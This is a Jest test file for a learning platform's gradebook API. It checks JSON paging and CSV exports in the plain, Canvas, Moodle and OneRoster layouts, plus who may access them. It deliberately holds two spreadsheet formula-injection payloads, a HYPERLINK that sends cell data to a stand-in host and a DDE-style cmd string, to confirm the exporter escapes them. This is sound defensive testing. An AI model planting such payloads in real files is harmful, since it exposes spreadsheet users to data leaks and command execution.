// The gradebook as JSON and as CSV, read again by an independent parser, and by LibreOffice where it is installed.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { AssignmentView } from '../../src/assignments/assignments.dto.js';
import type { Page } from '../../src/common/page.js';
import type { MemberView } from '../../src/courses/courses.dto.js';
import type { GradebookRow } from '../../src/gradebook/gradebook.dto.js';
import { begin, classroom, type Classroom, ITEM, truth } from '../support/course.js';
import { api, type Api, testService, type TestService } from '../support/service.js';

const EVIL = '=HYPERLINK("http://a.example/?x="&A1,"Open")';
const EVIL_TITLE = '@SUM(1+1)*cmd|x!A0';

let service: TestService;
let room: Classroom;
let path: string;
/** Answered the first assignment right; the second one is unanswered by all. */
let student: { client: Api; personId: string };
let evil: string;

beforeAll(async () => {
  service = await testService();
  room = await classroom(service);
  path = `/v1/courses/${room.courseId}`;
  student = await room.member('student', 'sis-1');
  const attempt = await begin(student.client, room.assignmentId);
  const questionId = attempt.questions[0]?.id ?? '';
  const { right } = await truth(service, questionId);
  await student.client.post(`/v1/questions/${questionId}/submissions`, { cells: right });
  const bad = { name: EVIL, role: 'student', lmsId: '+41' };
  evil = (await room.owner.post<MemberView>(`${path}/members`, bad)).body.personId;
  for (const title of [EVIL_TITLE, 'Handshake']) {
    const draft = { title, items: [ITEM, { ...ITEM, points: 20 }], dueAt: '2030-01-02T03:04:05Z' };
    const { id } = (await room.owner.post<AssignmentView>(`${path}/assignments`, draft)).body;
    await room.owner.post(`/v1/assignments/${id}/publish`);
  }
  await room.owner.post(`${path}/assignments`, { title: 'A draft', items: [ITEM] });
});
afterAll(() => service.close());

async function file(layout: string): Promise<{ text: string; rows: string[][] }> {
  const answer = await room.owner.get<string>(`${path}/gradebook.csv?layout=${layout}`);
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(answer.headers.get('content-disposition')).toContain('gradebook.csv');
  return { text: answer.body, rows: parse(answer.body, { bom: true }) };
}

describe('the CSV of a gradebook', () => {
  it('in the plain layout has a line per student, with points and what was possible', async () => {
    const { rows } = await file('plain');
    const columns = ['Handshake', `'${EVIL_TITLE}`, 'Handshake [2]'];
    expect(rows[0]).toEqual([
      'Learner',
      'Name',
      'LMS id',
      ...columns.flatMap((title) => [title, `${title} (possible)`]),
    ]);
    expect(rows.slice(1)).toEqual([
      [student.personId, 'A student', 'sis-1', '10', '10', '', '', '', ''],
      [evil, `'${EVIL}`, "'+41", '', '', '', '', '', ''],
    ]);
  });

  it('in Canvas’s layout has its five columns and the points possible', async () => {
    const { rows } = await file('canvas');
    expect(rows).toEqual([
      ['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section'].concat([
        'Handshake',
        `'${EVIL_TITLE}`,
        'Handshake [2]',
      ]),
      ['    Points Possible', '', '', '', '', '10', '30', '30'],
      ['A student', '', 'sis-1', '', '', '10', '', ''],
      [`'${EVIL}`, '', "'+41", '', '', '', '', ''],
    ]);
  });

  it('in Moodle’s layout is matched by the ID number', async () => {
    const { rows } = await file('moodle');
    expect(rows).toEqual([
      ['Full name', 'ID number', 'Handshake', `'${EVIL_TITLE}`, 'Handshake [2]'],
      ['A student', 'sis-1', '10', '', ''],
      [`'${EVIL}`, "'+41", '', '', ''],
    ]);
  });

  it('in OneRoster’s layout has a result per score, for line items that exist', async () => {
    const results = (await file('oneroster')).rows;
    const items = (await file('oneroster-lineitems')).rows;
    expect(results).toHaveLength(2);
    const result = Object.fromEntries((results[0] ?? []).map((name, i) => [name, results[1]?.[i]]));
    expect(result).toMatchObject({
      lineItemSourcedId: room.assignmentId,
      studentSourcedId: 'sis-1',
      scoreStatus: 'fully graded',
      score: '10',
      classSourcedId: room.courseId,
      status: 'active',
    });
    expect(result['scoreDate']).toMatch(/^\d{4}-\d\d-\d\d$/);
    expect(items.map((row) => [row[3], row[6], row[11]])).toEqual([
      ['title', 'dueDate', 'resultValueMax'],
      ['Handshake', expect.stringMatching(/^\d{4}-\d\d-\d\d$/), '10'],
      [`'${EVIL_TITLE}`, '2030-01-02', '30'],
      ['Handshake', '2030-01-02', '30'],
    ]);
  });

  it('in another layout is refused', async () => {
    const answer = await room.owner.get(`${path}/gradebook.csv?layout=excel`);
    expect(answer).toMatchObject({ status: 400, body: { errors: [{ at: 'layout' }] } });
  });

  it('is for instructors: 403 inside the course, 404 from outside', async () => {
    const outside = await service.creator();
    for (const route of ['gradebook', 'gradebook.csv']) {
      expect((await student.client.get(`${path}/${route}`)).status).toBe(403);
      expect((await outside.get(`${path}/${route}`)).status).toBe(404);
      expect((await api(service.url).get(`${path}/${route}`)).status).toBe(401);
    }
  });
});

describe('the gradebook', () => {
  it('lists every student once, in pages, with scores where there are any', async () => {
    const seen: GradebookRow[] = [];
    let next: string | null = null;
    do {
      const query: string = next ? `&after=${next}` : '';
      const { body } = await room.owner.get<Page<GradebookRow>>(`${path}/gradebook?limit=1${query}`);
      expect(body.data).toHaveLength(1);
      seen.push(...body.data);
      next = body.next;
    } while (next);
    expect(seen.map(({ learnerId }) => learnerId)).toEqual([student.personId, evil]);
    expect(seen[0]?.scores).toEqual([
      { assignmentId: room.assignmentId, earned: 10, possible: 10, version: 1 },
    ]);
    expect(seen[1]?.scores).toEqual([]);
  });

  it('of a course with more students than are read at a time is complete', async () => {
    const members = Array.from({ length: 450 }, (_, i) => ({ name: `Student ${i}`, role: 'student' }));
    const big = await classroom(service);
    await big.owner.post(`/v1/courses/${big.courseId}/members/bulk`, { members });
    const answer = await big.owner.get<string>(`/v1/courses/${big.courseId}/gradebook.csv`);
    const names = parse(answer.body, { bom: true, from: 2 }).map((row: string[]) => row[1]);
    expect(new Set(names).size).toBe(450);
  });
});
